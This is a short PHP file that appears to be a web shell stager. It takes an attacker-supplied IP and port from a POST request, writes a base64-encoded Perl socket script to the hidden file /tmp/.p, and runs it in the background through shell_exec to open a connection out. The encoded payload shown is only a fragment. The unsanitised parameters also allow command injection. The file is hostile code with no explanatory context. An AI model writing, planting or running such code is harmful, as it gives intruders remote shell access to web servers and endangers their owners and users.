<?php $ip = $_POST['ip']; $port = $_POST['port']; $fp = fopen('/tmp/.p', 'w'); fwrite($fp, base64_decode('dXNlIFNvY2tldDs=')); fclose($fp); shell_exec("perl /tmp/.p {$ip} {$port} &");
